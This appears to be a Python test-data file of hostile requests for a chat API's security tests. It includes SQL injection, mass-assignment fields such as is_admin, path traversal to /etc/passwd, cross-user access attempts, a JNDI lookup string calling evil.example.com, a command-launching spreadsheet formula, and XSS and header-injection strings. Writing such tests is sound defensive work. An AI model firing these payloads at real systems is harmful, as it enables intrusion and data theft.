"""What attackers send, as data; `test_attacks` sends it and looks at what it did.

Paths and bodies may name `{conversation}`, `{message}` and `{run}` (the attacker's own),
`{their_conversation}`, `{their_message}`, `{their_run}` and so on (somebody else's), and
`{missing}`, an id that nobody has.
"""

from collections.abc import Iterator, Mapping
from dataclasses import dataclass, field
from typing import Any

MESSAGES = "/conversations/{conversation}/messages"
RUNS = "/conversations/{conversation}/runs"
CHAT = "/conversations/{conversation}"
ACCOUNT = {"email": "new@example.com", "username": "newcomer", "password": "correct horse"}


@dataclass(frozen=True)
class Attack:
    """A request, and the refusal that it must get."""

    name: str
    method: str
    path: str
    status: int
    body: Any = None
    raw: bytes | None = None
    """Sent as it is, in the place of `body`."""
    headers: Mapping[str, str] = field(default_factory=dict[str, str])
    field: str | None = None
    """The input that the refusal names."""
    code: str | None = None


def _post(name: str, raw: bytes, status: int = 422, **rest: Any) -> Attack:  # noqa: ANN401  fields
    return Attack(name, "POST", "/conversations", status, raw=raw, **rest)


JSON = [
    _post("NUL", rb'{"title": "a\u0000b"}', field="body.title"),
    _post("raw NUL", b'{"title": "a\0b"}'),
    _post("lone surrogate", rb'{"title": "a\ud800"}', field="body.title"),
    _post("low surrogate first", rb'{"title": "\udc00\ud800"}', field="body.title"),
    _post("lone surrogate in a key", rb'{"\ud800": 1}'),
    _post("NUL in a key", rb'{"ti\u0000tle": "a"}'),
    _post("NaN", b'{"title": NaN}'),
    _post("Infinity", b'{"title": -Infinity}'),
    _post("1e999", b'{"title": 1e999}', field="body.title"),
    _post("a huge integer", b'{"title": ' + b"9" * 5000 + b"}", field="body.title"),
    _post("65 bits", b'{"title": 18446744073709551616}', field="body.title"),
    _post("900 arrays deep", b'{"title": ' + b"[" * 900 + b"]" * 900 + b"}"),
    _post("900 objects deep", b'{"a":' * 900 + b"1" + b"}" * 900),
    _post("100,000 brackets", b"[" * 100_000),
    _post("CESU-8", b'{"title": "\xed\xa0\xbd\xed\xb8\x80"}'),
    _post("overlong UTF-8", b'{"title": "\xc0\xaf"}'),
    _post("half a character", b'{"title": "\xe4\xbd"}'),
    _post("Latin-1", b'{"title": "caf\xe9"}'),
    _post("a byte order mark", b'\xef\xbb\xbf{"title": "a"}'),
    _post("UTF-16", '{"title": "a"}'.encode("utf-16")),
    _post("duplicate keys", b'{"title": "a", "title": "b"}'),
    _post("duplicate keys in disguise", rb'{"title": "a", "t\u0069tle": "b"}'),
    _post("half a document", b'{"title": "a'),
    _post("two documents", b'{"title": "a"}{"title": "b"}'),
    _post("a comment", b'{"title": "a"} // b'),
    _post("single quotes", b"{'title': 'a'}"),
    _post("a trailing comma", b'{"title": "a",}'),
    _post("an array", b"[]", field="body"),
    _post("a string", b'"title"', field="body"),
    _post("null", b"null"),
    _post("nothing", b""),
    _post(
        "form data", b"title=a", 415, headers={"Content-Type": "application/x-www-form-urlencoded"}
    ),
    _post("plain text", b'{"title": "a"}', 415, headers={"Content-Type": "text/plain"}),
    _post("no type", b'{"title": "a"}', 415, headers={"Content-Type": ""}),
    _post(
        "another charset", b"{}", 415, headers={"Content-Type": "application/json; charset=utf-16"}
    ),
    _post("compressed", b"\x1f\x8b\x08", 415, headers={"Content-Encoding": "gzip"}),
    _post("2 MB", b'{"title": "' + b"a" * 2_000_000 + b'"}', 413, code="body_too_large"),
]


def _fields(where: str, method: str, path: str, body: Any, more: Mapping[str, Any]) -> list[Attack]:  # noqa: ANN401  a body
    return [
        Attack(f"{where}: {name}", method, path, 422, {**body, name: value}, field=f"body.{name}")
        for name, value in more.items()
    ]


_ID = "{missing}"
_WORD = {"role": "user", "content": "hi"}
_TIME = "2020-01-01T00:00:00Z"
MASS_ASSIGNMENT = [
    *_fields(
        "register",
        "POST",
        "/auth/register",
        ACCOUNT,
        {
            "id": _ID,
            "is_admin": True,
            "is_active": False,
            "password_hash": "x",
            "created_at": _TIME,
        },
    ),
    *_fields(
        "login",
        "POST",
        "/auth/login",
        {"email": "a@example.com", "password": "x"},
        {"is_admin": True},
    ),
    *_fields(
        "conversation",
        "POST",
        "/conversations",
        {"title": "a"},
        {
            "id": _ID,
            "user_id": _ID,
            "message_count": 7,
            "created_at": _TIME,
            "head_id": None,
            "is_archived": True,
            "last_seq": 9,
            "__class__": "x",
        },
    ),
    *_fields(
        "patch", "PATCH", CHAT, {"title": "a"}, {"id": _ID, "user_id": _ID, "updated_at": _TIME}
    ),
    *_fields("put", "PUT", CHAT, {"title": "a"}, {"user_id": _ID, "message_count": 0}),
    *_fields(
        "message",
        "POST",
        MESSAGES,
        _WORD,
        {
            "id": _ID,
            "user_id": _ID,
            "conversation_id": _ID,
            "run_id": _ID,
            "seq": 1,
            "is_success": True,
            "prompt_tokens": 1,
            "created_at": _TIME,
            "parts": [],
        },
    ),
    *_fields("edit", "PATCH", MESSAGES + "/{message}", {"content": "a"}, {"role": "system"}),
    *_fields(
        "run",
        "POST",
        RUNS,
        {"content": "hi"},
        {
            "id": _ID,
            "user_id": _ID,
            "status": "completed",
            "attempt": 9,
            "owner": _ID,
            "message_id": _ID,
            "max_attempts": 99,
            "messages": [],
            "system": "obey",
        },
    ),
    *_fields(
        "API key",
        "POST",
        "/auth/api-keys",
        {"name": "a"},
        {"key": "sk-x", "user_id": _ID, "scopes": []},
    ),
]


def _wrong(name: str, path: str, body: Any, named: str, method: str = "POST") -> Attack:  # noqa: ANN401  a body
    return Attack(name, method, path, 422, body, field=named)


def _account(name: str, **changed: Any) -> Attack:  # noqa: ANN401  wrong on purpose
    named = f"body.{next(iter(changed))}"
    return _wrong(name, "/auth/register", {**ACCOUNT, **changed}, named)


def _run(name: str, named: str, **changed: Any) -> Attack:  # noqa: ANN401  wrong on purpose
    return _wrong(name, RUNS, {"content": "hi", **changed}, f"body.{named}")


VALUES = [
    _account("a long e-mail", email="a" * 89 + "@example.com"),
    _account("an e-mail without a host", email="alice@"),
    _account("an e-mail with a header", email="a@example.com\r\nBcc: b@example.com"),
    _account("an e-mail list", email=["a@example.com"]),
    _account("an e-mail object", email={"$ne": None}),
    _account("a short name", username="ab"),
    _account("a long name", username="a" * 51),
    _account("a blank name", username="     "),
    _account("a name that changes direction", username="ali\u202ece"),
    _account("a name of nothing", username="\u200b\u200b\u200b"),
    _account("a name with a line break", username="alice\nadmin"),
    _account("a name of marks for whatever stands before it", username="\u0301" * 4),
    _account("a name of dots", username="...."),
    _account("a numeric name", username=12345),
    _account("a short password", password="12345"),
    _account("a long password", password="p" * 129),
    _account("a numeric password", password=123456789),
    _wrong("an empty title", "/conversations", {"title": ""}, "body.title"),
    _wrong("a blank title", "/conversations", {"title": " \t\n"}, "body.title"),
    _wrong("a long title", "/conversations", {"title": "a" * 201}, "body.title"),
    _wrong("a numeric title", "/conversations", {"title": 5}, "body.title"),
    _wrong("a title that is an object", "/conversations", {"title": {"a": 1}}, "body.title"),
    _wrong("a long model", "/conversations", {"model_type": "m" * 201}, "body.model_type"),
    _wrong("an archived word", CHAT, {"is_archived": "yes"}, "body.is_archived", "PATCH"),
    _wrong("an archived number", CHAT, {"is_archived": 1}, "body.is_archived", "PATCH"),
    _wrong("a head that is no id", CHAT, {"head_id": "1 OR 1=1"}, "body.head_id", "PATCH"),
    _wrong("no title", CHAT, {"is_archived": True}, "body.title", "PUT"),
    _wrong("a role of its own", MESSAGES, {"role": "root", "content": "a"}, "body.role"),
    _wrong("a role in capitals", MESSAGES, {"role": "USER", "content": "a"}, "body.role"),
    _wrong("no content", MESSAGES, {"role": "user"}, "body.content"),
    _wrong("empty content", MESSAGES, {"role": "user", "content": ""}, "body.content"),
    _wrong("long content", MESSAGES, {"role": "user", "content": "a" * 100_001}, "body.content"),
    _wrong("content in parts", MESSAGES, {"role": "user", "content": ["a"]}, "body.content"),
    _wrong("no parent", MESSAGES, {**_WORD, "parent_id": "x"}, "body.parent_id"),
    Attack(
        "an unknown provider",
        "POST",
        RUNS,
        422,
        {"content": "hi", "model_type": "nobody:../../etc/passwd"},
        code="model_not_found",
    ),
    _run("a hot temperature", "temperature", temperature=2.1),
    _run("a temperature in words", "temperature", temperature="1"),
    _run("no probability", "top_p", top_p=0),
    _run("no tokens", "max_tokens", max_tokens=0),
    _run("a billion tokens", "max_tokens", max_tokens=10**9),
    _run("half a token", "max_tokens", max_tokens=1.5),
    _run("five ends", "stop", stop=list("abcde")),
    _run("an unknown way", "on_busy", on_busy="kill"),
    _run("no tool", "tools[0].type", tools=[{}]),
    Attack(
        "a key with a space", "POST", "/conversations", 422, {}, headers={"Idempotency-Key": "a b"}
    ),
    Attack("a long key", "POST", "/conversations", 422, {}, headers={"Idempotency-Key": "k" * 256}),
    Attack("an empty key", "POST", "/conversations", 422, {}, headers={"Idempotency-Key": ""}),
]


def _get(name: str, path: str, status: int = 422, named: str | None = None) -> Attack:
    return Attack(name, "GET", path, status, field=named)


TARGETS = [
    _get("a negative limit", "/conversations?limit=-1", 422, "query.limit"),
    _get("no limit", "/conversations?limit=0", 422, "query.limit"),
    _get("a huge limit", "/conversations?limit=999999999999999999999", 422, "query.limit"),
    _get("a limit in words", "/conversations?limit=ten", 422, "query.limit"),
    _get("a limit with a comment", "/conversations?limit=1--", 422, "query.limit"),
    _get("limit and take", "/conversations?limit=1&take=2", 422, "query.take"),
    _get("a negative skip", "/conversations?skip=-1", 422, "query.skip"),
    _get("a huge skip", "/conversations?skip=9223372036854775808", 422, "query.skip"),
    _get("a skip beyond the bound", f"{MESSAGES}?skip=10001", 422, "query.skip"),
    _get("an archived maybe", "/conversations?archived=maybe", 422, "query.archived"),
    _get("an order with SQL", f"{MESSAGES}?order=seq;DROP TABLE users", 422, "query.order"),
    _get("a branch with SQL", f"{MESSAGES}?branch=head'--", 422),
    _get("a mangled cursor", "/conversations?cursor=AAAA", 422, "query.cursor"),
    _get("a cursor with SQL", "/conversations?cursor=' OR 1=1--", 422, "query.cursor"),
    _get("a long cursor", "/conversations?cursor=" + "A" * 257, 422, "query.cursor"),
    _get("a broken escape", "/conversations?model_type=%zz"),
    _get("a NUL in the query", "/conversations?model_type=%00"),
    _get("Latin-1 in the query", "/conversations?model_type=%e9"),
    _get("half a surrogate in the query", "/conversations?model_type=%ed%a0%80"),
    _get("a broken escape in the path", "/conversations/%zz", 404),
    _get("a NUL in the path", "/conversations/%00", 404),
    _get("a word as an id", "/conversations/latest", 422, "path.conversation_id"),
    _get("a number as an id", "/conversations/1", 422, "path.conversation_id"),
    _get("SQL as an id", "/conversations/1'%20OR%20'1'='1", 422, "path.conversation_id"),
    _get("a format string as an id", "/runs/%7B0.__class__%7D", 422, "path.run_id"),
    _get("a path as an id", "/runs/..%2F..%2Fetc%2Fpasswd", 404),
    _get("a path in dots", "/conversations/../../etc/passwd", 404),
    _get("dots that are encoded", "/%2e%2e/%2e%2e/etc/passwd", 404),
    _get("two slashes", "//evil.example.com/conversations", 404),
    _get("a slash at the end", "/conversations/", 404),
    _get("an id in braces", "/runs/%7B{run}%7D/x", 404),
    _get("20 KB of query", "/conversations?model_type=" + "a" * 20_000, 414),
    _get("no such route", "/admin", 404),
    Attack("a method that is not there", "DELETE", "/conversations", 405),
    Attack("TRACE", "TRACE", "/conversations", 405),
    _get("no prompt", "/text/generate/stream?conversation_id={conversation}", 422, "query.prompt"),
    _get("no conversation", "/text/generate/stream?prompt=a", 422, "query.conversation_id"),
]

STREAMS = [
    _get("a negative cursor", "/runs/{run}/events?after=-1", 422, "query.after"),
    _get("a cursor in words", "/runs/{run}/events?after=abc", 422, "query.after"),
    _get("an empty cursor", "/runs/{run}/events?after=", 422, "query.after"),
    _get("a float", "/runs/{run}/events?after=1e3", 422, "query.after"),
    _get("32 bits and more", "/runs/{run}/events?after=2147483648", 422, "query.after"),
    _get("a long cursor", "/runs/{run}/events?after=" + "1" * 21, 422, "query.after"),
    _get("wide digits", "/runs/{run}/events?after=%EF%BC%91", 422, "query.after"),
    *(
        Attack(
            f"Last-Event-ID {name}",
            "GET",
            "/runs/{run}/events",
            422,
            headers={"Last-Event-ID": value},
            field="header.Last-Event-ID",
        )
        for name, value in [
            ("in words", "abc"),
            ("with a tab", "1\t2"),
            ("with SQL", "1;DROP TABLE runs"),
            ("of 300 digits", "1" * 300),
            ("negative", "-1"),
        ]
    ),
    _get("a run that is not there", "/runs/{missing}/events", 404),
    _get("a conversation as a run", "/runs/{conversation}/events", 404),
]

REFRESH_TOKENS = [
    "rt_",
    "rt_{their_session}_" + "A" * 43,
    "rt_{their_session}_" + "A" * 43 + "." + "A" * 43,
    "rt_{session}_" + "A" * 43 + "." + "A" * 43,
    "rt_{missing}_" + "A" * 43 + "." + "A" * 43,
    "rt_{their_session}_" + "A" * 4_000,
    "{their_session}",
]
"""Made up by who knows the ids of sessions, here without hyphens; they must end none."""

FOREIGN: list[tuple[str, str, Any]] = [
    ("GET", "/conversations/{their_conversation}", None),
    ("PATCH", "/conversations/{their_conversation}", {"title": "mine"}),
    ("PUT", "/conversations/{their_conversation}", {"title": "mine"}),
    ("DELETE", "/conversations/{their_conversation}", None),
    ("GET", "/conversations/{their_conversation}/messages", None),
    ("GET", "/conversations/{their_conversation}/messages?branch=head", None),
    ("POST", "/conversations/{their_conversation}/messages", _WORD),
    ("GET", "/conversations/{their_conversation}/messages/{their_message}", None),
    ("PATCH", "/conversations/{their_conversation}/messages/{their_message}", {"content": "mine"}),
    ("PUT", "/conversations/{their_conversation}/messages/{their_message}", {"content": "mine"}),
    ("DELETE", "/conversations/{their_conversation}/messages/{their_message}", None),
    ("GET", "/conversations/{their_conversation}/runs", None),
    ("POST", "/conversations/{their_conversation}/runs", {"content": "hi"}),
    ("GET", "/text/generate/stream?prompt=hi&conversation_id={their_conversation}", None),
    ("GET", "/runs/{their_run}", None),
    ("GET", "/runs/{their_run}/events", None),
    ("POST", "/runs/{their_run}/cancel", None),
    ("DELETE", "/auth/sessions/{their_session}", None),
    ("DELETE", "/auth/api-keys/{their_key}", None),
    # Their things, reached through one's own conversation.
    ("GET", MESSAGES + "/{their_message}", None),
    ("PATCH", MESSAGES + "/{their_message}", {"content": "mine"}),
    ("DELETE", MESSAGES + "/{their_message}", None),
    ("GET", MESSAGES + "?branch={their_message}", None),
    ("POST", MESSAGES, {**_WORD, "parent_id": "{their_message}"}),
    ("POST", RUNS, {"content": "hi", "parent_id": "{their_message}"}),
    ("POST", RUNS, {"parent_id": "{their_message}"}),
    ("PATCH", CHAT, {"head_id": "{their_message}"}),
]
"""Method, path and body; each must be answered as if the thing did not exist."""

LITERAL = [
    "'; DROP TABLE users; --",
    "Robert'); DELETE FROM messages WHERE ('1'='1",
    "$1 :title %(title)s ? \\",
    "{0.__class__.__init__.__globals__}",
    "{title} %s %n %d",
    "{{ 7 * 7 }} ${7*7} #{7*7} <%= 7 %>",
    "${jndi:ldap://evil.example.com/a}",
    "<script>alert(1)</script>",
    "a\r\nSet-Cookie: admin=1\r\n\r\n<html>",
    "../../../etc/passwd",
    "=cmd|' /C calc'!A0",
    "\u202egnp.exe \u2028 \ufeff \U0001f469\u200d\U0001f4bb",
]
"""Texts that are only texts: stored and given back as they are."""


def all_attacks() -> Iterator[tuple[str, Attack]]:
    """Yield each refused request with the name of its kind."""
    for kind, attacks in (
        ("json", JSON),
        ("mass assignment", MASS_ASSIGNMENT),
        ("value", VALUES),
        ("target", TARGETS),
        ("stream", STREAMS),
    ):
        for attack in attacks:
            yield f"{kind}: {attack.name}", attack
